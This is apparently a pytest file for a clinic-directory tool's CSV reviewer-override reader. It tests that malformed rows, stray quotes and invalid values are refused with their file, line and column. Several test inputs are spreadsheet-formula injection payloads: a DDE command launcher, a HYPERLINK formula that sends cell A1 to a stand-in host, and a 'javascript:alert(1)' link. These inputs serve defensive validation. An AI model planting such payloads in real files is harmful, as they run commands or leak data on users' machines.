"""Reviewer overrides: validation naming file, line and column; corrections and decisions with an audit."""

import pandas as pd
import pytest

from directory.errors import InputError
from directory.overrides import apply_corrections, apply_decisions, read_overrides

HEADER = "clinic_id,status,reason,reviewer,reviewed_on,fee_min,name\n"


def write(tmp_path, text, encoding="utf-8"):
    path = tmp_path / "overrides.csv"
    path.write_bytes(text.encode(encoding))
    return path


def clinics():
    return pd.DataFrame([
        {"clinic_id": "kc-a", "name": "Aspen", "fee_min": 450.0, "status": "listed", "reason_code": "fee_in_range",
         "reason": "x"},
        {"clinic_id": "kc-b", "name": "Birch", "fee_min": None, "status": "review", "reason_code": "fee_unknown",
         "reason": "y"},
    ])


@pytest.mark.parametrize("text, where, message", [
    ("id,status\nkc-a,listed\n", ":1:", "no 'clinic_id' column"),
    ("clinic_id,colour\nkc-a,red\n", ":1:2:", "unknown column 'colour'"),
    (HEADER + "kc-a,hidden,,,,,\n", ":2:2:", "status must be listed or excluded"),
    (HEADER + "kc-a,,,,,cheap,\n", ":2:6:", "fee_min must be a number, got 'cheap'"),
    (HEADER + "kc-a,,,,,-5,\n", ":2:6:", "fee_min must be a positive number"),
    (HEADER + "kc-a,,,,22/11/2026,,\n", ":2:5:", "reviewed_on must be a date"),
    (HEADER + "kc-a,listed,ok,ana,,,\nkc-b,,,,,,\nkc-a,excluded,no,bo,,,\n", ":4:", "different row at line 2"),
    (HEADER + ",listed,,,,,\n", ":2:1:", "needs at least its name"),
    (HEADER + "kc-a,listed,,,,,,extra\n", ":2:8:", "this row has 8 cell(s), the header 7"),
    # Saved by a spreadsheet set to a language that writes decimal commas: its columns are split by ";".
    ("clinic_id;status;reason\nkc-a;excluded;closed\n", ":1:", "columns are separated by ';'"),
    ("clinic_id\tstatus\nkc-a\texcluded\n", ":1:", "columns are separated by tabs"),
    # A column without a name may only be an empty one a spreadsheet carried along.
    ("clinic_id,status,\nkc-a,excluded,closed\n", ":2:3:", "column 3 has no name in the header"),
    (HEADER + "kc-a,,,,12/1/2026,,\n", ":2:5:", "reviewed_on must be a date like 2026-11-22"),
])
def test_malformed_files_name_file_line_and_column(tmp_path, text, where, message):
    path = write(tmp_path, text)
    with pytest.raises(InputError) as error:
        read_overrides(path)
    assert f"{path}{where}" in str(error.value) and message in str(error.value)


def test_bad_encoding_names_the_line(tmp_path):
    path = write(tmp_path, HEADER + "kc-a,listed,Café ok,ana,,,\n", encoding="latin-1")
    with pytest.raises(InputError, match=r"overrides.csv:2: not UTF-8"):
        read_overrides(path)


def test_empty_columns_and_rows_a_spreadsheet_carries_along_are_ignored(tmp_path):
    path = write(tmp_path, "clinic_id,status,reason,,\r\nkc-a,excluded,closed,,\r\n,,,,\r\n")
    assert [(o.clinic_id, o.status, o.reason) for o in read_overrides(path)] == [("kc-a", "excluded", "closed")]


def test_identical_duplicate_rows_and_excel_bom_are_accepted(tmp_path):
    path = write(tmp_path, "\ufeff" + HEADER + "kc-a,listed,ok,ana,,,\nkc-a,listed,ok,ana,,,\n\n")
    assert [o.clinic_id for o in read_overrides(path)] == ["kc-a"]


def test_corrections_win_and_are_audited(tmp_path):
    path = write(tmp_path, HEADER + "kc-b,,confirmed by phone,ana,2026-11-20,\"$1,050\",\nkc-a,,,,,,Aspen\n")
    result = apply_corrections(clinics(), read_overrides(path), new_id=lambda row: "kc-new")
    assert result.frame.loc[1, "fee_min"] == 1050.0
    assert result.audit == [{
        "clinic_id": "kc-b", "column": "fee_min", "crawled_value": "", "reviewed_value": "1050",
        "reviewer": "ana", "reviewed_on": "2026-11-20", "reason": "confirmed by phone", "overrides_line": 2,
    }]   # the unchanged name of kc-a is not a change


def test_status_override_wins_over_the_policy(tmp_path):
    path = write(tmp_path, HEADER + "kc-a,excluded,clinic closed,bo,2026-11-21,,\n")
    overrides = read_overrides(path)
    audit = []
    frame = apply_decisions(clinics(), overrides, audit)
    row = frame.iloc[0]
    assert (row.status, row.reason_code, row.reviewed_by, row.reviewed_on) == (
        "excluded", "reviewer_override", "bo", "2026-11-21")
    assert row.reason == "Set to excluded by bo on 2026-11-21: clinic closed"
    assert audit[0]["column"] == "status" and audit[0]["crawled_value"] == "listed"


def test_a_row_may_add_a_clinic_and_unknown_ids_are_warnings(tmp_path):
    path = write(tmp_path, HEADER + ",listed,known by phone,ana,,500,Cedar Clinic\nkc-gone,excluded,,,,,\n")
    result = apply_corrections(clinics(), read_overrides(path), new_id=lambda row: "kc-" + row["name"][:5])
    assert list(result.frame["clinic_id"]) == ["kc-a", "kc-b", "kc-Cedar"]
    assert result.frame.loc[2, "fee_min"] == 500.0
    assert result.warnings == ["override line 3: clinic_id kc-gone is not in this build; ignored"]


# A stray quote: the csv module reads the rest of the file, or up to the next quote, into one cell, and the rows it
# swallows (here two exclusions) are lost without a word.
SWALLOWING = [
    ("kc-a,listed,\"checked by phone,ana\nkc-b,excluded,closed,bo\nkc-c,excluded,too dear,bo\n",
     ":2:3:", "opens a quote (\") that is never closed"),
    ("kc-a,listed,\"checked by phone,ana\nkc-b,excluded,closed,bo\nkc-c,excluded,\"$1,500, too dear\",bo\n",
     ":4:3:", "text follows the closing quote of a cell that opened at line 2"),
    ("kc-a,listed,\"checked by phone,ana\nkc-b,excluded,closed,bo\nkc-c,excluded,too dear\",bo\n",
     ":2:3:", "reason holds a line break"),
    ("kc-a,listed,checked by phone\nkc-b,excluded,closed,bo\n", ":2:4:", "this row has 3 cell(s), the header 4"),
    ("kc-a,listed,checked, by phone,ana\n", ":2:5:", "this row has 5 cell(s), the header 4"),
]


@pytest.mark.parametrize("rows, where, message", SWALLOWING)
def test_a_stray_quote_or_comma_stops_the_file_where_it_is(tmp_path, rows, where, message):
    path = write(tmp_path, "clinic_id,status,reason,reviewer\n" + rows)
    with pytest.raises(InputError) as error:
        read_overrides(path)
    assert f"{path}{where}" in str(error.value) and message in str(error.value)


@pytest.mark.parametrize("header, rows, where", [
    # A stray quote opens row 4's fee_candidates, another closes row 5's: row 5 (an exclusion) would be lost.
    ("clinic_id,status,reason,fee_candidates",
     ['kc-00000000a1,excluded,too dear,"$1,500 (infusion)\n$2,000 (series)"', 'kc-00000000b2,excluded,closed,"$450',
      'kc-00000000c3,excluded,moved,$600 (infusion)"', "kc-00000000d4,listed,,$500 (infusion)"], ":4:4:"),
    # The same with the columns reordered by a reviewer, the clinic id last.
    ("status,fee_evidence,clinic_id", ['excluded,"Infusions are $450.,kc-00000000b2',
                                       'excluded,Call us."" for pricing",kc-00000000c3'], ":2:2:"),
])
def test_two_stray_quotes_joining_rows_into_a_context_cell_stop_the_file(tmp_path, header, rows, where):
    path = write(tmp_path, "\n".join([header, *rows]) + "\n")
    with pytest.raises(InputError) as error:
        read_overrides(path)
    assert f"{path}{where}" in str(error.value) and "joined the rows between into one cell" in str(error.value)


def test_quoted_cells_may_hold_commas_quotes_and_line_breaks_where_a_value_can(tmp_path):
    path = write(tmp_path, 'clinic_id,status,reason,fee_candidates\r\n'
                           'kc-a,excluded,"closed, says ""the landlord""","$450 (infusion)\r\n$650 (infusion)"\r\n'
                           'kc-b,listed,,\r\n')
    overrides = read_overrides(path)
    assert [(o.clinic_id, o.status, o.reason, o.line) for o in overrides] == [
        ("kc-a", "excluded", 'closed, says "the landlord"', 2), ("kc-b", "listed", "", 4)]


@pytest.mark.parametrize("cell, column, message", [
    ("=1+1", "phone", "phone is a spreadsheet formula or its result ('=1+1')"),
    ('=HYPERLINK("http://x.test/?"&A1;"open")', "name", "name is a spreadsheet formula"),
    ("#NAME?", "name", "name is a spreadsheet formula or its result ('#NAME?')"),
    ("Err:509", "street", "street is a spreadsheet formula or its result"),
    ("=450", "fee_min", "fee_min is a spreadsheet formula"),
    ("-Dash Clinic", "name", "name starts with '-', which a spreadsheet runs as a formula"),
    ("@SUM(A1:A9)", "reason", "reason starts with '@'"),
    ("+cmd|' /C calc'!A0", "phone", "phone starts with '+'"),
])
def test_a_cell_a_spreadsheet_would_run_is_refused_with_its_place(tmp_path, cell, column, message):
    path = write(tmp_path, f"clinic_id,reason,name,street,phone,fee_min\nkc-a,,,,,\nkc-b,,,,,\n")
    header = ["clinic_id", "reason", "name", "street", "phone", "fee_min"]
    cells = ["kc-b", "", "", "", "", ""]
    cells[header.index(column)] = '"' + cell.replace('"', '""') + '"'
    path.write_text(path.read_text().replace("kc-b,,,,,", ",".join(cells)))
    with pytest.raises(InputError) as error:
        read_overrides(path)
    assert f"{path}:3:{header.index(column) + 1}: {message}" in str(error.value)


@pytest.mark.parametrize("column, cell, value", [
    # The build's own neutralisation, undone exactly: one apostrophe less.
    ("name", "'-Dash Clinic", "-Dash Clinic"),
    ("name", "'=HYPERLINK(\"http://x.test\")", "=HYPERLINK(\"http://x.test\")"),
    ("name", "''=1+1", "'=1+1"),
    ("name", "'Aspen's", "'Aspen's"),
    ("name", "@Home Ketamine", None),
    ("phone", "'+13035550142", "+13035550142"),
    # What a spreadsheet does to a prefilled value, taken back.
    ("phone", "13035550142", "+13035550142"),
    ("phone", "+1 (303) 555-0142", "+13035550142"),
    ("postal_code", "2116", "02116"),
    ("postal_code", "501", "00501"),
    ("postal_code", "02116-1234", "02116"),
    ("fee_min", "1,200", "1200.0"),
    ("fee_min", "$450.00", "450.0"),
    ("fee_min", "4.50E+02", "450.0"),
    ("fee_min", "1,200.50", "1200.5"),
    ("reviewed_on", "2026-12-01 00:00:00", "2026-12-01"),
    ("reviewed_on", "20261201", "2026-12-01"),
    ("routes", "iv_infusion; im_injection", "iv_infusion;im_injection"),
    # A number column holds numbers: a minus sign is a value, not a formula.
    ("longitude", "-104.99", "-104.99"),
])
def test_cells_come_back_as_the_values_they_were(tmp_path, column, cell, value):
    other, filled = ("latitude", "39.75") if column == "longitude" else ("reason", "checked")
    quoted = cell.replace('"', '""')
    path = write(tmp_path, f'clinic_id,{column},{other}\nkc-a,"{quoted}",{filled}\n')
    if value is None:
        with pytest.raises(InputError, match=f"{column} starts with '@'"):
            read_overrides(path)
        return
    override = read_overrides(path)[0]
    assert (override.reviewed_on if column == "reviewed_on" else override.values[column]) == value


@pytest.mark.parametrize("text, where, message", [
    (HEADER + "kc-a,,,,,0,\n", ":2:6:", "fee_min must be a positive number of dollars"),
    ("clinic_id,fee_min,fee_max\nkc-a,450,300\n", ":2:3:", "fee_max 300 is below fee_min 450"),
    ("clinic_id,latitude,longitude\nkc-a,39.75,\n", ":2:3:", "longitude is empty: a reviewer's point needs both"),
    ("clinic_id,latitude,longitude\nkc-a,inf,-104.99\n", ":2:2:", "latitude must be a number"),
    ("clinic_id,latitude,longitude\nkc-a,1e999,-104.99\n", ":2:2:", "latitude must be a finite number"),
    # A decimal comma is no thousands separator: "450,00" is not $45,000.
    ("clinic_id,fee_min\nkc-a,\"450,00\"\n", ":2:2:", "fee_min must be a number"),
    ("clinic_id,fee_max\nkc-a,nan\n", ":2:2:", "fee_max must be a number"),
    ("clinic_id,latitude,longitude\nkc-a,39.7,-104_99\n", ":2:3:", "longitude must be a number"),
    ("clinic_id,routes\nkc-a,iv_infusion;laser\n", ":2:2:", "routes 'laser' is not one of"),
    ("clinic_id,conditions\nkc-a,Depression\n", ":2:2:", "conditions 'Depression' is not one of"),
    ("clinic_id,website\nkc-a,javascript:alert(1)\n", ":2:2:", "website must be a web address starting with"),
    ("clinic_id,website\nkc-a,aspen.test\n", ":2:2:", "website must be a web address starting with"),
])
def test_a_reviewers_values_obey_the_tables_rules(tmp_path, text, where, message):
    path = write(tmp_path, text)
    with pytest.raises(InputError) as error:
        read_overrides(path)
    assert f"{path}{where}" in str(error.value) and message in str(error.value)


@pytest.mark.parametrize("cells, where, message", [
    # Checked against the clinic as corrected: its crawled fee_min, its state.
    ("kc-a,,300,,", ":2:3:", "fee_max 300 is below fee_min 450"),
    ("kc-a,,,91,-104.99", ":2:4:", "(91, -104.99) is not a point in the United States"),
    ("kc-a,,,51.5074,-0.1278", ":2:4:", "(51.5074, -0.1278) is not a point in the United States"),
    ("kc-a,,,33.749,-84.388", ":2:4:", "(33.749, -84.388) is outside CO, the clinic's state"),
    (",Gale Clinic,,51.5074,-0.1278", ":2:4:", "(51.5074, -0.1278) is not a point"),
])
def test_a_correction_that_breaks_the_tables_rules_stops_at_its_cell(tmp_path, cells, where, message):
    path = write(tmp_path, "clinic_id,name,fee_max,latitude,longitude\n" + cells + "\n")
    frame = clinics().assign(state="CO", latitude=None, longitude=None, fee_max=None)
    with pytest.raises(InputError) as error:
        apply_corrections(frame, read_overrides(path), new_id=lambda row: "kc-new")
    assert f"{path}{where}" in str(error.value) and message in str(error.value)


@pytest.mark.parametrize("cells, state, where, message", [
    # A ZIP code whose leading zero a spreadsheet dropped is padded only when the clinic's state agrees: "8020" is
    # a Denver ZIP code missing a digit, not 08020 in New Jersey.
    ("kc-a,8020,", "CO", ":2:2:", "postal_code '8020' would be 08020, a ZIP code of NJ, not of CO"),
    ("kc-a,8020,NJ", "CO", None, "08020"),
    ("kc-a,2116,", "MA", None, "02116"),
    ("kc-a,9999,", "MA", ":2:2:", "postal_code '9999' would be 09999, which is no ZIP code"),
])
def test_a_zip_code_is_padded_only_when_the_state_agrees(tmp_path, cells, state, where, message):
    path = write(tmp_path, "clinic_id,postal_code,state\n" + cells + "\n")
    frame = clinics().assign(state=state, postal_code="")
    if where is None:
        result = apply_corrections(frame, read_overrides(path), new_id=lambda row: "kc-new")
        assert result.frame.loc[0, "postal_code"] == message
        return
    with pytest.raises(InputError) as error:
        apply_corrections(frame, read_overrides(path), new_id=lambda row: "kc-new")
    assert f"{path}{where} {message}" in str(error.value)


def test_a_zip_code_passed_back_unchanged_is_never_refused(tmp_path):
    path = write(tmp_path, "clinic_id,postal_code\nkc-a,2116\n")   # a crawled ZIP code that disagrees with the state
    frame = clinics().assign(state="CO", postal_code="02116")
    assert apply_corrections(frame, read_overrides(path), new_id=lambda row: "kc-new").audit == []


@pytest.mark.parametrize("phone, crawled, message", [
    # What a spreadsheet makes of a phone it ran as a formula ("=1+1"), or a value the reviewer escaped by rote.
    ("2", "+13035550142", ":2:2: phone '2' is not a phone number"),
    ("'-5", "+13035550142", ":2:2: phone '-5' is not a phone number"),
    ("(303) 555-0199", "+13035550142", None),
    ("call us", "call us", None),   # a crawled phone passed back unchanged is no correction, whatever it says
])
def test_a_phone_a_reviewer_changes_must_be_a_phone_number(tmp_path, phone, crawled, message):
    path = write(tmp_path, f"clinic_id,phone\nkc-a,{phone}\n")
    frame = clinics().assign(phone=crawled)
    if message is None:
        apply_corrections(frame, read_overrides(path), new_id=lambda row: "kc-new")
        return
    with pytest.raises(InputError) as error:
        apply_corrections(frame, read_overrides(path), new_id=lambda row: "kc-new")
    assert f"{path}{message}" in str(error.value)


def test_a_row_adding_a_clinic_the_build_already_has_stops_at_its_line(tmp_path):
    # A clinic a reviewer added last month that this month's crawl found, or a row whose clinic_id was cleared.
    path = write(tmp_path, HEADER + ",listed,known by phone,ana,,500,Aspen\n")
    with pytest.raises(InputError) as error:
        apply_corrections(clinics(), read_overrides(path), new_id=lambda row: "kc-a")
    assert f"{path}:2:1: clinic_id is empty, so this row adds a clinic, but the build already has it" in str(
        error.value)
    assert "kc-a ('Aspen')" in str(error.value)
    path = write(tmp_path, HEADER + ",listed,,ana,,500,Cedar Clinic\n,listed,,bo,,500,Cedar Clinic\n")
    with pytest.raises(InputError, match=r"overrides.csv:3:1: .* as kc-new \('Cedar Clinic', added by line 2\)"):
        apply_corrections(clinics(), read_overrides(path), new_id=lambda row: "kc-new")


def test_a_point_a_reviewer_passes_back_unchanged_is_no_correction(tmp_path):
    frame = clinics().assign(state="CO", latitude=[39.73923581, None], longitude=[-104.99025123, None])
    path = write(tmp_path, "clinic_id,latitude,longitude\nkc-a,39.739236,-104.990251\nkc-b,39.75,-105\n")
    result = apply_corrections(frame, read_overrides(path), new_id=lambda row: "kc-new")
    assert [(a["clinic_id"], a["column"]) for a in result.audit] == [("kc-b", "latitude"), ("kc-b", "longitude")]
    assert result.placed == {"kc-b"}
